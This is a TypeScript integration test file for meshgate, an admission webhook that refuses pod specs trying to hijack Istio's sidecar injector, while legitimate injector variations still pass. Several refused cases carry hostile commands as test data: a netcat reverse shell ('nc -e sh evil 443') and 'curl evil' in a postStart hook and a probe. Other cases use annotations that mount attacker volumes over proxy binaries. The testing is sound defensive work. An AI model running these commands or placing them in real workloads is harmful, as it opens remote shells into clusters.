/**
 * Issue 21 through the real kube-apiserver, next to Istio 1.27's REAL injector (its template and values, built by
 * scripts/build-istio.sh): what a determined pod author makes Istio's injector write — it merges a pod-supplied
 * `istio-proxy` over its template and pastes annotation values into it — is refused by meshgate's webhooks field by
 * field (§1), while the variations Istio itself produces for real pods pass; the validator runs first (§2); a
 * container that could become the proxy is refused, and admitted with a warning in apps.baselineNamespaces (§3).
 */
import { describe, expect, it } from 'vitest';
import type { V1Container, V1Pod } from '@kubernetes/client-node';
import { shared } from './harness/shared.ts';
import { startIstioCompanion } from './harness/clusters.ts';
import { apiError, createNamespace, restrictedPod } from './meshgate.ts';

const NS = 'mesh';
const LEGACY = 'legacy';
/** The cluster this file's tests share: Istio's real injector, and meshgate called after it. */
const s = shared(async (stopLater) => {
  const config = { apps: { privileges: 'restricted', baselineNamespaces: [LEGACY] } };
  const cluster = await startIstioCompanion(stopLater, { 'node-verified': true }, { config });
  for (const ns of [NS, LEGACY])
    await createNamespace(cluster.cp, ns, { 'istio-injection': 'enabled', 'meshgate.io/inject': 'enabled' });
  return cluster;
});

/** A restricted pod on the verified node, with extra annotations, spec and containers. */
function pod(
  name: string,
  opts: { annotations?: Record<string, string>; spec?: Partial<V1Pod['spec']>; containers?: V1Container[] } = {},
): V1Pod {
  const p = restrictedPod(name, { nodeName: 'node-verified', ...opts.spec });
  p.metadata!.annotations = opts.annotations;
  if (opts.containers) p.spec!.containers = [...p.spec!.containers, ...opts.containers];
  return p;
}

async function outcome(body: V1Pod, ns = NS): Promise<{ pod?: V1Pod; error?: string }> {
  return s.core.createNamespacedPod({ namespace: ns, body }).then(
    (pod) => ({ pod }),
    (e: unknown) => ({ error: apiError(e) }),
  );
}

const proxyOf = (p: V1Pod) =>
  [...(p.spec?.initContainers ?? []), ...(p.spec?.containers ?? [])].find((c) => c.name === 'istio-proxy');

describe("what Istio's real injector writes for real pods passes", () => {
  const rows: Array<[string, Parameters<typeof pod>[1]]> = [
    ['plain', {}],
    [
      'hold the app until the proxy starts',
      { annotations: { 'proxy.istio.io/config': 'holdApplicationUntilProxyStarts: true' } },
    ],
    [
      'per-pod proxy resources and log levels',
      {
        annotations: {
          'sidecar.istio.io/proxyCPU': '50m',
          'sidecar.istio.io/proxyMemory': '64Mi',
          'sidecar.istio.io/logLevel': 'debug',
          'sidecar.istio.io/componentLogLevel': 'misc:error,upstream:debug',
        },
      },
    ],
    [
      'DNS capture through proxyMetadata',
      { annotations: { 'proxy.istio.io/config': 'proxyMetadata:\n  ISTIO_META_DNS_CAPTURE: "true"' } },
    ],
    [
      'app probes rewritten through the agent',
      {
        spec: {
          containers: [
            { ...restrictedPod('x').spec!.containers[0], readinessProbe: { httpGet: { path: '/ready', port: 8080 } } },
          ],
        },
      },
    ],
    [
      'certificates mounted into the proxy (userVolume/userVolumeMount)',
      {
        annotations: {
          'sidecar.istio.io/userVolume': '{"egress-certs":{"secret":{"secretName":"egress"}}}',
          'sidecar.istio.io/userVolumeMount': '{"egress-certs":{"mountPath":"/etc/egress-certs","readOnly":true}}',
        },
      },
    ],
  ];
  it.each(rows)('%s', async (_n, opts) => {
    const name = `ok-${_n.replace(/[^a-z]+/g, '-').slice(0, 30)}`.replace(/-$/, '');
    const r = await outcome(pod(name, opts));
    expect(r.error).toBeUndefined();
    expect(proxyOf(r.pod!)?.image).toBe('docker.io/istio/proxyv2:1.27.0');
    // §2: meshgate's validator runs before everything else, the native proxy included.
    expect(r.pod!.spec!.initContainers![0].name).toBe('istio-validation');
  });
});

describe("what a pod author makes Istio's injector write is refused", () => {
  const rows: Array<[string, Parameters<typeof pod>[1], RegExp]> = [
    [
      'its own istio-proxy with a shell command (Istio merges it over the template)',
      { containers: [{ name: 'istio-proxy', image: 'auto', command: ['/bin/sh', '-c', 'nc -e sh evil 443'] }] },
      /istio-proxy is not the real one: its command is \["\/bin\/sh"/,
    ],
    [
      'its own istio-proxy with a postStart hook',
      {
        containers: [
          {
            name: 'istio-proxy',
            image: 'auto',
            lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl evil'] } } },
          },
        ],
      },
      /postStart runs \["sh","-c","curl evil"\]/,
    ],
    [
      'its own istio-proxy with an exec readiness probe',
      {
        containers: [
          { name: 'istio-proxy', image: 'auto', readinessProbe: { exec: { command: ['sh', '-c', 'curl evil'] } } },
        ],
      },
      /readinessProbe runs a command/,
    ],
    [
      'a userVolumeMount over the proxy binaries',
      {
        annotations: {
          'sidecar.istio.io/userVolume': '{"bin":{"configMap":{"name":"evil"}}}',
          'sidecar.istio.io/userVolumeMount': '{"bin":{"mountPath":"/usr/local/bin"}}',
        },
      },
      /\/usr\/local\/bin is inside \/usr/,
    ],
    [
      'Envoy from a pod-supplied bootstrap (customConfigFile + userVolumeMount)',
      {
        annotations: {
          'proxy.istio.io/config': 'customConfigFile: /etc/b/envoy.json',
          'sidecar.istio.io/userVolume': '{"b":{"configMap":{"name":"evil"}}}',
          'sidecar.istio.io/userVolumeMount': '{"b":{"mountPath":"/etc/b"}}',
        },
      },
      /customConfigFile/,
    ],
    [
      'another Envoy binary (binaryPath)',
      { annotations: { 'proxy.istio.io/config': 'binaryPath: /etc/b/envoy' } },
      /binaryPath/,
    ],
    [
      'a bootstrap override',
      { annotations: { 'sidecar.istio.io/bootstrapOverride': 'evil' } },
      /(bootstrapOverride=evil|ISTIO_BOOTSTRAP_OVERRIDE): Envoy would start from a bootstrap the pod supplies/,
    ],
    [
      'an istio-podinfo volume the pod supplies (pilot-agent reads proxy.istio.io/config there)',
      { spec: { volumes: [{ name: 'istio-podinfo', configMap: { name: 'fake-annotations' } }] } },
      /istio-podinfo/,
    ],
  ];
  it.each(rows)('%s', async (_n, opts, message) => {
    const r = await outcome(pod(`bad-${rows.findIndex((x) => x[0] === _n)}`, opts));
    expect(r.pod).toBeUndefined();
    expect(r.error).toMatch(/\[(impostor_container|proxy_config_refused)\]/);
    expect(r.error).toMatch(message);
  });
});

describe('who can become the proxy (apps.privileges: restricted)', () => {
  const root: V1Container = {
    name: 'root-app',
    image: 'registry.example/app:1',
    securityContext: { runAsUser: 0, runAsGroup: 0, allowPrivilegeEscalation: false },
  };

  it('a root container keeping SETUID is refused', async () => {
    const r = await outcome(pod('root-app', { containers: [root] }));
    expect(r.error).toMatch(/container root-app holds SETUID, SETGID, NET_RAW .* as root .*\[proxy_escalation\]/);
  });

  it('in apps.baselineNamespaces it is admitted, and kubectl prints the warning', async () => {
    const body = JSON.stringify(pod('root-app', { containers: [root] }));
    const r = await s.cp.kubectl(['create', '-n', LEGACY, '-f', '-'], { input: body });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(
      /Warning: .*container root-app holds SETUID.*namespace legacy is in apps.baselineNamespaces/,
    );
  });
});
